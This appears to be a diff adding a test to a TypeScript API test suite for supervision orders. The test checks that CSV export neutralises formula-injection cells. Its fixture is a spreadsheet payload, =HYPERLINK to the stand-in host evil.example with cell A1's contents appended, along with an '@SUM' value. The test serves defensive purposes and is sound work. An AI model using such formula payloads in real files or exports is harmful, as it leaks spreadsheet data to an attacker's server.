@@ -14,6 +14,16 @@ afterEach(async () => t.close());
 const order = (over: Record<string, unknown> = {}) => ({ unitId: s.nanning, campaignId: s.campaign.id, itemId: s.item.id, title: '督办：压缩审批时限', requirement: '3月5日前反馈整改情况', replyMethod: '书面报告', replyDueOn: '2027-03-05', ...over });
 
 describe('supervision orders', () => {
+  test('when an order is titled like a formula, then its CSV export neutralises the cell (OWASP CSV injection) and keeps the text', async () => {
+    const title = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
+    expect((await s.inspector.post('/v1/supervision-orders', order({ title, requirement: '@SUM(1+1)' }))).statusCode).toBe(201);
+    const res = await s.admin.get('/v1/supervision-orders:export?format=csv');
+    expect(res.statusCode).toBe(200);
+    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点我"")"`);
+    expect(res.body).toContain("'@SUM(1+1)");
+    expect(res.body).not.toMatch(/(^|,)=HYPERLINK/m);
+  });
+
   test('the lifecycle: acknowledge, reply twice (the first after the deadline: answered late), return, reply, close; other units get 404', async () => {
     const created = await s.inspector.post('/v1/supervision-orders', order());
     expect(created.statusCode).toBe(201);
